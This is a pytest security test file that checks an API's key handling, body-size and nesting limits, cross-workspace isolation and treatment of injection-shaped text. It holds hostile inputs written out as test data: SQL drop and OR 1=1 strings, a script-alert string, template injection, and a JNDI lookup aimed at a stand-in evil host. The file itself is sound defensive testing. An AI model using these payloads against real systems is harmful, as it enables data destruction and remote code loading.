"""Issue 8, security: every /api/v1 and /api/v1/crm operation of the OpenAPI document tried
without a key, with a wrong, a revoked and another workspace's key; oversized and deeply
nested bodies; injection-shaped strings in every text field and filter; and no key in the
server's logs.

The operations are read from the app's own OpenAPI document, so a new endpoint is swept
without a change here. The sweeps run on an app of their own with rate limiting off, so a
few hundred requests without a valid key are not cut short by 429s.
"""

from __future__ import annotations

import os
import re
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pytest
from fastapi.testclient import TestClient

from intently.app import create_app
from intently.auth.service import generate_key
from intently.events.repository import record
from intently.events.schemas import Event
from intently.kit.db import tick, write_tx
from intently.scoring.schemas import default_model
from intently.settings import Settings
from intently.signals.store import IngestRun
from tests.support.api import Api, Workspace, new_workspace
from tests.support.dashboard import new_dashboard
from tests.support.server import free_port

MOUNTS = ("/api/v1", "/api/v1/crm")
UNKNOWN_ID = "0123456789abcdef01234567"
UNKNOWN_ID_2 = "0123456789abcdef0123abcd"
SMALL_LIMIT = 4096  # max_body_bytes of the app the size sweep runs on
NO_LIMITS: dict[str, Any] = {"rate_limit_anonymous_per_minute": 0, "rate_limit_per_minute": 0}
VOLATILE = {"timestamp", "syncTimestamp", "pollCursor", "nextCursor"}


# ---- the apps ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def sweep_app(database_url: str) -> Iterator[Any]:
    app = create_app(Settings(database_url=database_url, **NO_LIMITS))
    yield app
    app.state.intently.engine.dispose()


@pytest.fixture(scope="module")
def sweep(sweep_app: Any) -> TestClient:
    return TestClient(sweep_app, raise_server_exceptions=False)


@pytest.fixture(scope="module")
def small(database_url: str) -> Iterator[TestClient]:
    """An app whose body limit is small, so oversized bodies cost little to send."""
    app = create_app(Settings(database_url=database_url, max_body_bytes=SMALL_LIMIT, **NO_LIMITS))
    yield TestClient(app, raise_server_exceptions=False)
    app.state.intently.engine.dispose()


@pytest.fixture
def fresh(sweep: TestClient, sweep_app: Any) -> Callable[[], Workspace]:
    engine = sweep_app.state.intently.engine
    return lambda: new_workspace(sweep, engine, "sec-f")


# ---- the operations, from the OpenAPI document ---------------------------------------------


@dataclass(frozen=True)
class Op:
    method: str
    path: str  # the template, mount included: /api/v1/crm/accounts/{ident}
    params: tuple[str, ...]  # path parameters
    query: tuple[str, ...]  # query parameters
    has_body: bool  # the document declares a request body

    @property
    def mount(self) -> str:
        return MOUNTS[1] if self.path.startswith(MOUNTS[1] + "/") else MOUNTS[0]

    @property
    def rel(self) -> str:
        """The path under its mount: /accounts/{ident}."""
        return self.path[len(self.mount) :]

    def __str__(self) -> str:
        return f"{self.method} {self.path}"


def _operations() -> list[Op]:
    # The document depends on code only, so any database will do to build it.
    tmp = tempfile.mkdtemp(prefix="intently-sec-doc-")
    app = create_app(Settings(database_url=f"sqlite:///{tmp}/doc.sqlite3", secret_key="s" * 32))
    try:
        doc = app.openapi()
    finally:
        app.state.intently.engine.dispose()
        shutil.rmtree(tmp, ignore_errors=True)
    ops = []
    for path, operations in doc["paths"].items():
        if not (path.startswith("/api/v1/") or path == "/api/v1"):
            continue
        for method, spec in operations.items():
            params = spec.get("parameters", [])
            ops.append(
                Op(
                    method.upper(),
                    path,
                    tuple(p["name"] for p in params if p["in"] == "path"),
                    tuple(p["name"] for p in params if p["in"] == "query"),
                    "requestBody" in spec,
                )
            )
    return sorted(ops, key=lambda o: (o.path, o.method))


OPERATIONS = _operations()
WRITES = [o for o in OPERATIONS if o.method != "GET"]
WITH_IDS = [o for o in OPERATIONS if o.params]
LISTS = [o for o in OPERATIONS if o.method == "GET" and not o.params]
# PUT /sources/{source}/settings reads a JSON body that the document does not declare.
BODY_READERS = [
    o
    for o in OPERATIONS
    if o.has_body or (o.method, o.rel) == ("PUT", "/sources/{source}/settings")
]
JSON_BODY_READERS = [o for o in BODY_READERS if not o.rel.endswith("/upload")]


def test_the_document_lists_every_endpoint() -> None:
    """The sweep is only as wide as the document: the spec's endpoints must all be in it."""
    listed = {str(o) for o in OPERATIONS}
    for mount in MOUNTS:
        for method, rel in [
            ("GET", "/accounts"),
            ("POST", "/accounts"),
            ("PUT", "/accounts/{ident}"),
            ("GET", "/accounts/{rtp_aid}"),
            ("GET", "/accounts/missing-external-ids"),
            ("PATCH", "/accounts/external-ids"),
            ("POST", "/accounts/custom-field"),
            ("GET", "/accounts/custom-fields"),
            ("DELETE", "/accounts/custom-fields/{key}"),
            ("POST", "/deals"),
            ("POST", "/sales-activities"),
            ("GET", "/segments"),
            ("POST", "/segments"),
            ("PATCH", "/segments/{segment_id}"),
            ("POST", "/signals"),
            ("GET", "/events"),
            ("POST", "/webhooks"),
            ("DELETE", "/webhooks/{webhook_id}"),
        ]:
            assert f"{method} {mount}{rel}" in listed
    assert "GET /api/v1/website" in listed
    assert len(OPERATIONS) > 100


# ---- the world: workspace A with one of everything, B with a key of its own ---------------


@dataclass
class World:
    client: TestClient
    a: Workspace
    b: Workspace
    revoked: str  # a key of A's workspace that was replaced
    ids: dict[str, str]  # path parameter -> A's value
    secrets: list[str] = field(default_factory=list)  # what B must never see
    snapshot: Any = None

    def fill(self, op: Op, values: dict[str, str] | None = None) -> str:
        values = values or self.ids
        path = op.path
        for name in op.params:
            value = values[name]
            if name == "ident" and op.mount == MOUNTS[1]:
                value = values["externalId"]
            path = path.replace("{" + name + "}", quote(value, safe=""))
        return path

    def state(self) -> list[Any]:
        """What A's key reads of A's data (less what changes by itself with time)."""
        i = self.ids
        out = []
        for path in [
            "/accounts?limit=1000",
            f"/accounts/{i['rtp_aid']}",
            f"/accounts/{i['rtp_aid']}/deals",
            f"/accounts/{i['rtp_aid']}/activities",
            f"/accounts/{i['rtp_aid']}/signals",
            "/accounts/missing-external-ids",
            "/accounts/custom-fields",
            "/segments?type=all&status=active,draft,archived",
            f"/segments/{i['segment_id']}",
            f"/segments/{i['segment_id']}/accounts",
            f"/segments/{i['dynamic_id']}",
            "/webhooks",
            f"/webhooks/{i['webhook_id']}",
            f"/webhooks/{i['webhook_id']}/deliveries",
            "/events?limit=1000",
            "/ingest/runs",
            "/ingest/rejects?status=all",
            "/sources",
            "/sources/website/settings",
            "/stages",
            "/scoring/model",
            "/score-thresholds",
            "/scoring/runs",
            "/website",
        ]:
            r = self.a.api.get(path)
            assert r.status_code == 200, (path, r.text)
            out.append((path, scrub(r.json())))
        return out


def scrub(value: Any) -> Any:
    if isinstance(value, dict):
        return {k: scrub(v) for k, v in value.items() if k not in VOLATILE}
    if isinstance(value, list):
        return [scrub(v) for v in value]
    return value


def _ok(r: httpx.Response) -> Any:
    assert r.status_code in (200, 201), r.text
    return r.json()["data"]


@pytest.fixture(scope="module")
def world(sweep: TestClient, sweep_app: Any) -> World:
    engine = sweep_app.state.intently.engine
    a = new_workspace(sweep, engine, "sec-a")
    b = new_workspace(sweep, engine, "sec-b")
    # A second user of A, whose first key is replaced: that first key is revoked.
    second = f"second-{uuid.uuid4().hex[:8]}@example.com"
    revoked = generate_key(engine, a.name, second)
    generate_key(engine, a.name, second)

    marker = f"A-PRIVATE-{uuid.uuid4().hex[:8]}"
    api = a.api
    _ok(api.post("/accounts/custom-field", json={"label": "Tier", "labelType": "singleLineText"}))
    seg = _ok(api.post("/segments", json={"name": f"{marker} list", "status": "active"}))
    seg2 = _ok(api.post("/segments", json={"name": f"{marker} list 2", "status": "draft"}))
    dyn = _ok(
        api.post(
            "/segments",
            json={
                "name": f"{marker} dynamic",
                "type": "dynamic",
                "status": "active",
                "rules": {"field": "name", "op": "contains", "value": marker},
            },
        )
    )
    pushed = _ok(
        api.post(
            "/accounts",
            json={
                "segmentId": seg["segmentId"],
                "accounts": [
                    {
                        "domain": "a-one.example.com",
                        "name": f"{marker} One",
                        "externalId": f"{marker}-EXT",
                        "customFields": {"TIER_C": "gold"},
                    },
                    {"domain": "a-two.example.com", "name": f"{marker} Two"},
                    {"domain": "a-three.example.com", "name": f"{marker} Three"},
                ],
            },
        )
    )["results"]
    aid = pushed[0]["rtp_aid"]
    _ok(
        api.post(
            "/deals",
            json={
                "deals": [
                    {
                        "externalDealId": f"{marker}-DEAL",
                        "name": f"{marker} deal",
                        "associatedAccounts": [{"domain": "a-one.example.com"}],
                    }
                ]
            },
        )
    )
    _ok(api.post("/sales-activities", json=_activity(f"{marker}-ACT", "a-one.example.com")))
    _ok(api.post("/sources", json={"name": "a_private_src"}))
    _ok(
        api.post(
            "/signals",
            json={
                "signals": [
                    {
                        "domain": "a-one.example.com",
                        "source": "a_private_src",
                        "type": f"{marker}-type",
                        "occurredAt": f"2024-05-0{n}T00:00:00Z",
                    }
                    for n in (1, 2)
                ]
            },
        )
    )
    hooks = [
        _ok(
            api.post("/webhooks", json={"url": f"http://8.8.8.8/{marker}/{n}", "eventTypes": ["*"]})
        )
        for n in (1, 2)
    ]
    hook = hooks[0]["webhookId"]
    with write_tx(engine) as conn:
        record(
            conn,
            a.id,
            [Event("account.created", None, None, {"n": n}) for n in (1, 2)],
            seq=tick(conn, a.id),
        )
    deliveries = _ok(api.get(f"/webhooks/{hook}/deliveries"))["data"]
    assert deliveries, "no delivery was queued"
    for n in (1, 2):
        run = IngestRun(engine, a.id, "g2", "file", f"{marker}-{n}.csv")
        run.reject("bad_row", f"{marker} row", {"row": marker}, line=n)
        run.finish()
    run_id = _ok(api.get("/ingest/runs"))["data"][0]["runId"]
    event_id = _ok(api.get("/events"))["data"][0]["eventId"]
    write_key = _ok(api.get("/website"))["writeKey"]
    # Model versions are numbers per workspace: A's reach 12, two digits no path or message
    # holds otherwise (B has none), so a version can be told apart in an answer.
    for _ in range(12):
        version = _ok(api.put("/scoring/model", json=default_model()))["version"]
    training_id = _ok(api.post("/scoring/train", json={}))["trainingId"]

    ids = {
        "rtp_aid": aid,
        "ident": aid,
        "externalId": f"{marker}-EXT",
        "key": "TIER_C",
        "segment_id": seg["segmentId"],
        "dynamic_id": dyn["segmentId"],
        "webhook_id": hook,
        "delivery_id": deliveries[0]["deliveryId"],
        "event_id": event_id,
        "run_id": run_id,
        "source": "a_private_src",
        "version": str(version),
        "training_id": training_id,
    }
    world = World(sweep, a, b, revoked, ids)
    world.secrets = [
        marker,
        a.key,
        write_key,
        aid,
        pushed[1]["rtp_aid"],
        seg["segmentId"],
        seg2["segmentId"],
        dyn["segmentId"],
        hook,
        hooks[1]["webhookId"],
        hooks[0]["secret"],
        deliveries[0]["deliveryId"],
        event_id,
        run_id,
        "a_private_src",
        training_id,
    ]
    world.snapshot = world.state()
    return world


def _activity(ext: str, domain: str, **extra: Any) -> dict[str, Any]:
    return {
        "activities": [
            {
                "externalActivityId": ext,
                "activityType": "call",
                "occurredAt": "2024-05-01T10:00:00Z",
                "domain": domain,
                "ownerEmail": "rep@example.com",
                "contacts": [{"email": "buyer@example.com"}],
                **extra,
            }
        ]
    }


# A body each write would accept from A's key, so that only the key (or the id) stops it.
def valid_body(op: Op, world: World) -> dict[str, Any]:
    rel, i = op.rel, world.ids
    if rel.endswith("/upload"):
        return {"content": b"domain\na-two.example.com\n", "headers": {"Content-Type": "text/csv"}}
    bodies: dict[str, Any] = {
        "/accounts/custom-field": {"label": "Sweep", "labelType": "singleLineText"},
        "/accounts": {"accounts": [{"domain": "sweep.example.com", "name": "Sweep"}]},
        "/accounts/external-ids": {
            "mappings": [{"domain": "a-two.example.com", "externalId": "HIJACKED"}]
        },
        "/accounts/{ident}": {"customFields": {"TIER_C": "stolen"}},
        "/deals": {"deals": [{"externalDealId": "D-SWEEP", "name": "Sweep"}]},
        "/sales-activities": _activity("ACT-SWEEP", "a-one.example.com"),
        "/segments": {"name": "Sweep", "status": "active"},
        "/segments/preview": {"rules": {"field": "name", "op": "contains", "value": "A"}},
        "/segments/{segment_id}": {"name": "hijacked", "status": "archived"},
        "/segments/{segment_id}/accounts": {"rtp_aids": [i["rtp_aid"]]},
        "/signals": {
            "signals": [
                {
                    "domain": "a-one.example.com",
                    "source": "website",
                    "type": "page_view",
                    "occurredAt": "2024-05-01T00:00:00Z",
                }
            ]
        },
        "/sources": {"name": "sweep_src"},
        "/sources/{source}/settings": {"ipRetentionDays": 3},
        "/stages": {"stages": [{"name": "Only"}]},
        "/scoring/model": {},
        "/scoring/runs": {"full": True},
        "/scoring/dry-run": {},
        "/scoring/train": {},
        "/scoring/models/{version}/activate": {"force": True},
        "/score-thresholds": {"thresholds": [{"score": "rtp_account_score", "value": 50}]},
        "/webhooks": {"url": "http://8.8.8.8/sweep", "eventTypes": ["*"]},
        "/webhooks/{webhook_id}": {"status": "disabled", "url": "http://8.8.4.4/hijacked"},
    }
    if op.method in ("GET",) or rel not in bodies:
        return {}
    return {"json": bodies[rel]}


def _unknown_ids(world: World) -> dict[str, str]:
    return {
        **{k: UNKNOWN_ID for k in world.ids},
        "delivery_id": UNKNOWN_ID_2,
        "externalId": "EXT-NO-SUCH",
        "key": "NO_SUCH_C",
        "source": "no_such_src",
        "version": "97",
    }


def business_error(r: httpx.Response, status: int, path: str, custom: str) -> dict[str, Any]:
    assert r.status_code == status, r.text
    assert r.headers["content-type"].startswith("application/json")
    body = r.json()
    assert body["statusCode"] == status
    assert body["path"] == path
    assert body["customMessage"] == custom, body
    assert body["data"] is None
    return dict(body)


def unchanged(world: World, what: str) -> None:
    assert world.state() == world.snapshot, f"A's data changed after {what}"


# ---- keys ----------------------------------------------------------------------------------


@pytest.mark.parametrize("op", OPERATIONS, ids=str)
def test_every_endpoint_refuses_a_missing_wrong_or_revoked_key(world: World, op: Op) -> None:
    path = world.fill(op)
    kw = valid_body(op, world)
    for key, custom in [
        (None, "X-Api-Key header is required"),
        ("", "X-Api-Key header is required"),
        ("itly_" + uuid.uuid4().hex, "Invalid API key"),
        (world.a.key + "x", "Invalid API key"),
        ("' OR 1=1 --", "Invalid API key"),
        (world.revoked, "Invalid API key"),
    ]:
        r = Api(world.client, key).request(op.method, path.removeprefix("/api/v1"), **kw)
        body = business_error(r, 401, path, custom)
        assert body["message"] == "Unauthorized"
        for secret in world.secrets:
            if secret not in path:
                assert secret not in r.text, (key, secret)
    if op.method != "GET":
        unchanged(world, str(op))


@pytest.mark.parametrize("op", WITH_IDS, ids=str)
def test_another_workspaces_ids_are_unknown_ids(world: World, op: Op) -> None:
    """B's key on A's ids answers exactly what it answers for ids that do not exist."""
    kw = valid_body(op, world)
    b = world.b.api.under("")
    unknown = _unknown_ids(world)
    theirs = b.request(op.method, world.fill(op), **kw)
    none = b.request(op.method, world.fill(op, unknown), **kw)
    assert theirs.status_code == 404, theirs.text
    ja, jb = theirs.json(), none.json()
    for j in (ja, jb):
        j.pop("timestamp", None)
    text_a, text_b = str(ja), str(jb)
    for name in op.params:
        mine = world.ids["externalId"] if name == "ident" and op.mount == MOUNTS[1] else None
        mine = mine or world.ids[name]
        other = unknown["externalId"] if mine == world.ids["externalId"] else unknown[name]
        text_a = text_a.replace(quote(mine, safe=""), "<id>").replace(mine, "<id>")
        text_b = text_b.replace(quote(other, safe=""), "<id>").replace(other, "<id>")
    assert text_a == text_b
    # Nothing of A's beyond the ids B itself sent.
    for secret in world.secrets:
        if secret not in world.fill(op):
            assert secret not in theirs.text, secret
    if op.method != "GET":
        unchanged(world, f"B's {op}")


@pytest.mark.parametrize("op", LISTS, ids=str)
def test_another_workspaces_key_sees_nothing_of_a(world: World, op: Op) -> None:
    params = {"type": "all", "status": "active,draft,archived"} if op.rel == "/segments" else {}
    if op.rel == "/ingest/rejects":
        params = {"status": "all"}
    if op.rel == "/scoring/backtest":
        params = {"asOf": "2024-06-01"}
    r = world.b.api.under("").get(op.path, params=params)
    assert r.status_code == 200, r.text
    for secret in world.secrets:
        assert secret not in r.text, secret


@pytest.mark.parametrize(
    ("rel", "name", "ident"),
    [("/events", "rtp_aid", "rtp_aid"), ("/ingest/rejects", "runId", "run_id")],
)
def test_another_workspaces_ids_in_filters_are_unknown_ids(
    world: World, rel: str, name: str, ident: str
) -> None:
    extra = {"status": "all"} if rel == "/ingest/rejects" else {}
    theirs = world.b.api.get(rel, params={name: world.ids[ident], **extra})
    unknown = world.b.api.get(rel, params={name: UNKNOWN_ID, **extra})
    assert theirs.status_code == unknown.status_code, (theirs.text, unknown.text)
    assert str(scrub(theirs.json())).replace(world.ids[ident], "<id>") == str(
        scrub(unknown.json())
    ).replace(UNKNOWN_ID, "<id>")
    assert not any(s in theirs.text for s in world.secrets if s != world.ids[ident])
    # While A's own key finds them.
    mine = world.a.api.get(rel, params={name: world.ids[ident], **extra})
    assert _ok(mine)["data"], mine.text


CURSOR_LISTS = [o for o in LISTS if "cursor" in o.query]


@pytest.mark.parametrize("op", CURSOR_LISTS, ids=str)
def test_a_cursor_of_another_workspace_is_invalid(world: World, op: Op) -> None:
    params: dict[str, Any] = {"limit": 1}
    if op.rel == "/ingest/rejects":
        params["status"] = "all"
    if op.rel == "/segments":
        params.update(type="all", status="active,draft,archived")
    page = _ok(world.a.api.under("").get(op.path, params=params))
    cursor = page.get("nextCursor")
    assert cursor, f"A has a single page of {op}: the world needs more of it"
    r = world.b.api.under("").get(op.path, params={**params, "cursor": cursor})
    business_error(r, 400, op.path, "Invalid cursor")
    assert not any(s in r.text for s in world.secrets)


# ---- oversized and deeply nested bodies ----------------------------------------------------


def _big(size: int) -> bytes:
    head, tail = b'{"pad": "', b'"}'
    return head + b"x" * (size - len(head) - len(tail)) + tail


@pytest.mark.parametrize("op", BODY_READERS, ids=str)
def test_an_oversized_body_is_413_however_it_is_sent(
    world: World, small: TestClient, op: Op
) -> None:
    path = world.fill(op)
    ctype = "text/csv" if op.rel.endswith("/upload") else "application/json"
    body = _big(SMALL_LIMIT + 1) if ctype == "application/json" else b"d" * (SMALL_LIMIT + 1)
    big = body + b" " * (3 * SMALL_LIMIT)

    def chunks() -> Iterator[bytes]:
        for n in range(0, len(big), 1000):
            yield big[n : n + 1000]

    headers = {"X-Api-Key": world.a.key, "Content-Type": ctype}
    cases: list[tuple[str, dict[str, Any]]] = [
        ("one byte over", {"content": body}),
        ("declared small", {"content": big, "headers": {**headers, "Content-Length": "20"}}),
        ("declared huge", {"content": b"{}", "headers": {**headers, "Content-Length": "9" * 19}}),
        ("chunked", {"content": chunks()}),
    ]
    for how, kw in cases:
        kw.setdefault("headers", headers)
        r = small.request(op.method, path, **kw)
        assert r.status_code == 413, (how, r.text)
        env = r.json()
        assert env["statusCode"] == 413 and env["path"] == path, how
        assert env["message"] == "Payload Too Large" and env["data"] is None, how
        assert str(SMALL_LIMIT) in env["customMessage"], how
    unchanged(world, f"oversized bodies to {op}")


def _nested(depth: int, open_: str = "[", close: str = "]") -> str:
    return open_ * depth + close * depth


DEPTHS = [10_000, 100_000]
NO_DEPTH_CHECK = "no code checks the max_json_depth setting yet (issue 8 limits, kit/body.py)"


def _depth_check_exists() -> bool:
    """Whether any code reads the max_json_depth setting (another slice of issue 8 adds
    the check, in kit/body.py)."""
    import intently

    root = Path(intently.__file__).parent
    return any(
        "max_json_depth" in p.read_text() for p in root.rglob("*.py") if p.name != "settings.py"
    )


@pytest.mark.parametrize("op", JSON_BODY_READERS, ids=str)
def test_a_deeply_nested_body_is_400(world: World, sweep_app: Any, op: Op) -> None:
    if not _depth_check_exists():
        pytest.skip(NO_DEPTH_CHECK)
    limit = sweep_app.state.intently.settings.max_json_depth
    path = world.fill(op)
    for depth in DEPTHS:
        for raw in (
            '{"deep": ' + _nested(depth) + "}",
            '{"deep": ' + '{"a": ' * depth + "1" + "}" * depth + "}",
        ):
            r = world.a.api.under("").request(
                op.method, path, content=raw.encode(), headers={"Content-Type": "application/json"}
            )
            assert r.status_code == 400, r.text[:300]
            env = r.json()
            assert env["statusCode"] == 400 and env["path"] == path
            assert env["message"] == "Bad Request"
            [error] = env["data"]
            assert error["property"] in ("deep", "a"), error
            assert error["path"].startswith("deep"), error
            assert f"limit of {limit} levels" in str(error["constraints"]), error
    unchanged(world, f"nested bodies to {op}")


@pytest.mark.parametrize("depth", DEPTHS)
def test_deep_values_in_free_form_fields_are_400(world: World, depth: int) -> None:
    """Rules, custom field values and settings hold any JSON: deep ones are refused too."""
    if not _depth_check_exists():
        pytest.skip(NO_DEPTH_CHECK)
    api = world.a.api
    deep_rule = '{"not": ' * depth + '{"field": "name", "op": "eq", "value": "x"}' + "}" * depth
    for method, path, raw in [
        ("POST", "/segments", '{"name": "deep", "type": "dynamic", "rules": ' + deep_rule + "}"),
        ("POST", "/segments/preview", '{"rules": ' + deep_rule + "}"),
        ("PATCH", f"/segments/{world.ids['dynamic_id']}", '{"rules": ' + deep_rule + "}"),
        (
            "POST",
            "/accounts",
            '{"accounts": [{"domain": "deep.example.com", "name": "D", "customFields": '
            '{"TIER_C": ' + _nested(depth) + "}}]}",
        ),
        (
            "PUT",
            f"/accounts/{world.ids['rtp_aid']}",
            '{"customFields": {"TIER_C": ' + _nested(depth) + "}}",
        ),
        ("PUT", "/scoring/model", '{"sources": ' + '{"a": ' * depth + "1" + "}" * depth + "}"),
        ("PUT", "/stages", '{"stages": [{"name": "X", "rule": ' + deep_rule + '}, {"name": "Y"}]}'),
    ]:
        r = api.request(
            method, path, content=raw.encode(), headers={"Content-Type": "application/json"}
        )
        assert r.status_code == 400, (method, path, r.text[:300])
        assert r.json()["statusCode"] == 400
    unchanged(world, "deep values")


# ---- injection-shaped strings ----------------------------------------------------------------

LONG = ("'; DROP TABLE accounts; -- %_\\ <script>{{7*7}}</script> " * 100)[:5000]
INJECTIONS = {
    "sql-drop": "'; DROP TABLE accounts; --",
    "sql-or": '" OR 1=1 --',
    "percent": "%",
    "underscore": "_",
    "backslash": "\\",
    "like-mix": "50%_off\\%",
    "script": "<script>alert(1)</script>",
    "template": "{{7*7}}",
    "jndi": "${jndi:ldap://evil.example/a}",
    "rtl": "\u202eevil\u202c",
    "zero-width": "zero\u200bwidth\u200d\ufeff",
    "long": LONG,
}
SHORT = {k: v for k, v in INJECTIONS.items() if len(v) <= 100}


@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS.keys())
def test_text_fields_are_stored_and_returned_as_text(
    fresh: Callable[[], Workspace], text: str
) -> None:
    ws = fresh()
    api = ws.api
    tag = text[:100]
    _ok(api.post("/accounts/custom-field", json={"label": "Note", "labelType": "multiLineText"}))
    _ok(
        api.post(
            "/accounts/custom-field",
            json={
                "label": "Pick",
                "labelType": "singleSelection",
                "options": [text, "other"],
                "description": text,
            },
        )
    )
    fields = _ok(api.get("/accounts/custom-fields"))
    pick = next(f for f in fields if f["key"] == "PICK_C")
    assert pick["options"] == [text, "other"] and pick["description"] == text

    # Accounts: every text field, then read back through each way out.
    results = _ok(
        api.post(
            "/accounts",
            json={
                "accounts": [
                    {
                        "domain": "inject.example.com",
                        "name": text,
                        "shortName": text,
                        "externalId": text,
                        "tags": [tag, "plain"],
                        "customFields": {"NOTE_C": text, "PICK_C": text},
                    },
                    {"domain": "second.example.com", "name": text},
                ]
            },
        )
    )["results"]
    assert [x["status"] for x in results] == ["created", "created"], results
    assert results[0]["externalId"] == text
    aid, aid2 = results[0]["rtp_aid"], results[1]["rtp_aid"]
    item = _ok(api.get(f"/accounts/{aid}"))
    assert item["name"] == text and item["shortName"] == text and item["externalId"] == text
    assert item["tags"] == [tag, "plain"]
    assert item["customFields"] == {"NOTE_C": text, "PICK_C": text}
    listed = _ok(api.get("/accounts"))["data"]
    assert [x["name"] for x in listed] == [text, text]
    assert _ok(api.get("/accounts/missing-external-ids")) == [
        {"name": text, "domain": "second.example.com"}
    ]
    # The CRM mount addresses the account by that externalId (a "/" cannot be in a path
    # segment, so such an id is not addressable there).
    if "/" not in text:
        r = ws.crm.put(f"/accounts/{quote(text, safe='')}", json={"customFields": {"NOTE_C": "x"}})
        assert r.status_code == 200, r.text
        assert _ok(api.get(f"/accounts/{aid}"))["customFields"]["NOTE_C"] == "x"
    r = api.patch(
        "/accounts/external-ids",
        json={"mappings": [{"domain": "second.example.com", "externalId": text + "2"}]},
    )
    assert _ok(r) == {"matched": 1, "updated": 1, "notFound": []}
    assert _ok(api.get(f"/accounts/{aid2}"))["externalId"] == text + "2"

    # Deals and activities.
    deal_fields = (
        "name",
        "stageId",
        "stageLabel",
        "pipelineId",
        "pipelineLabel",
        "ownerName",
        "ownerId",
    )
    r = api.post(
        "/deals",
        json={
            "deals": [
                {
                    "externalDealId": text,
                    **{f: text for f in deal_fields},
                    "associatedAccounts": [{"externalId": text, "name": text}],
                }
            ]
        },
    )
    assert _ok(r)["results"][0]["status"] == "created", r.text
    [deal] = _ok(api.get(f"/accounts/{aid}/deals"))
    assert deal["externalDealId"] == text
    assert {f: deal[f] for f in deal_fields} == {f: text for f in deal_fields}
    act = _activity(
        text,
        "inject.example.com",
        subject=text,
        outcome=text,
        accountName=text,
        ownerName=text,
        callTitle=text,
        contacts=[{"email": "buyer@example.com", "name": text, "title": text}],
    )
    assert _ok(api.post("/sales-activities", json=act))["results"][0]["status"] == "created"
    [got] = _ok(api.get(f"/accounts/{aid}/activities"))
    assert (got["externalActivityId"], got["subject"], got["outcome"]) == (text, text, text)
    assert got["contacts"][0]["name"] == text

    # Signals of a custom source.
    _ok(api.post("/sources", json={"name": "inj_src"}))
    # (The type is bounded: test_over_long_bounded_values_are_refused_not_500.)
    sig = {
        "domain": "inject.example.com",
        "source": "inj_src",
        "type": text[:48],
        "topic": text,
        "occurredAt": "2024-05-01T00:00:00Z",
        "id": text,
    }
    assert _ok(api.post("/signals", json={"signals": [sig]}))["results"][0]["status"] == "created"
    [s] = _ok(api.get(f"/accounts/{aid}/signals"))["data"]
    assert (s["type"], s["topic"], s["source"]) == (text[:48], text, "inj_src")

    # Segments: the name, in the segment, the lists and the account items.
    seg = _ok(api.post("/segments", json={"name": text, "status": "active"}))
    assert seg["name"] == text
    assert _ok(api.get(f"/segments/{seg['segmentId']}"))["name"] == text
    assert [x["name"] for x in _ok(api.get("/segments"))["data"]] == [text]
    added = _ok(api.post(f"/segments/{seg['segmentId']}/accounts", json={"rtp_aids": [aid]}))
    assert added["added"] == 1
    assert _ok(api.get(f"/accounts/{aid}"))["segments"] == [
        {"segmentId": seg["segmentId"], "name": text}
    ]

    # Webhooks: the description as given, the URL's query as sent.
    # (A URL holds at most 2048 characters and a description 500.)
    url = "https://8.8.8.8/hook?q=" + quote(text[:300], safe="")
    about = text[:500]
    hook = _ok(api.post("/webhooks", json={"url": url, "eventTypes": ["*"], "description": about}))
    got = _ok(api.get(f"/webhooks/{hook['webhookId']}"))
    assert (got["url"], got["description"]) == (url, about)

    # The change events carry the values as they are.
    events = _ok(api.get("/events", params={"limit": 1000}))["data"]
    created = [e for e in events if e["type"] == "account.created" and e["rtp_aid"] == aid]
    assert created and created[0]["after"]["name"] == text


@pytest.mark.parametrize("text", SHORT.values(), ids=SHORT.keys())
def test_a_custom_field_label_is_text(fresh: Callable[[], Workspace], text: str) -> None:
    api = fresh().api
    [f] = _ok(api.post("/accounts/custom-field", json={"label": text, "labelType": "number"}))
    assert f["label"] == text
    expected_key = text.strip().replace(" ", "_").upper() + "_C"
    assert f["key"] == expected_key
    assert [x["label"] for x in _ok(api.get("/accounts/custom-fields"))] == [text]
    r = api.post(
        "/accounts",
        json={
            "accounts": [{"domain": "x.example.com", "name": "X", "customFields": {f["key"]: 7}}]
        },
    )
    aid = _ok(r)["results"][0]["rtp_aid"]
    assert _ok(api.get(f"/accounts/{aid}"))["customFields"] == {f["key"]: 7}


@pytest.mark.parametrize("text", SHORT.values(), ids=SHORT.keys())
def test_stage_names_and_source_settings_are_text(
    fresh: Callable[[], Workspace], text: str
) -> None:
    api = fresh().api
    name = text[:64]  # stage names hold 64 characters
    stages = {
        "stages": [
            {"name": name, "rule": {"field": "rtp_account_score", "op": "gte", "value": 50}},
            {"name": "Rest"},
        ]
    }
    r = api.put("/stages", json=stages)
    assert r.status_code == 200, r.text
    assert [s["name"] for s in _ok(api.get("/stages"))["stages"]] == [name, "Rest"]
    website = {
        "highValuePages": [{"name": text, "pattern": "*/" + text}],
        "formEvents": [text],
    }
    r = api.put("/sources/website/settings", json=website)
    assert r.status_code == 200, r.text
    got = _ok(api.get("/sources/website/settings"))
    assert (got["highValuePages"], got["formEvents"]) == (
        website["highValuePages"],
        website["formEvents"],
    )


@pytest.mark.parametrize("length", [49, 299, 5000])
def test_over_long_bounded_values_are_refused_not_500(
    fresh: Callable[[], Workspace], length: int
) -> None:
    """A value longer than its column holds is refused naming the field (or kept whole),
    on PostgreSQL too, where a too-long value cannot be stored at all."""
    api = fresh().api
    text = ("'%_\\<>" * length)[:length]
    _ok(api.post("/accounts", json={"accounts": [{"domain": "long.example.com", "name": "L"}]}))
    _ok(api.post("/sources", json={"name": "long_src"}))
    signal = {
        "domain": "long.example.com",
        "source": "long_src",
        "type": text,
        "occurredAt": "2024-05-01T00:00:00Z",
    }
    r = api.post("/signals", json={"signals": [signal]})
    assert r.status_code in (200, 400), r.text[:300]
    if r.status_code == 400:
        assert [e["property"] for e in r.json()["data"]] == ["type"], r.text[:300]
    else:
        [result] = r.json()["data"]["results"]
        if result["status"] == "failed":
            assert "type" in result["reason"], result
        else:
            aid = _ok(api.get("/accounts"))["data"][0]["rtp_aid"]
            [got] = _ok(api.get(f"/accounts/{aid}/signals"))["data"]
            assert got["type"] == text
    r = api.post("/accounts/custom-field", json={"label": text, "labelType": "number"})
    assert r.status_code in (201, 400), r.text[:300]
    if r.status_code == 400:
        assert "label" in r.text, r.text[:300]
    else:
        assert [f["label"] for f in _ok(api.get("/accounts/custom-fields"))] == [text]


def test_rule_values_match_literally(fresh: Callable[[], Workspace]) -> None:
    """`%`, `_` and `\\` in a rule match themselves, never anything else."""
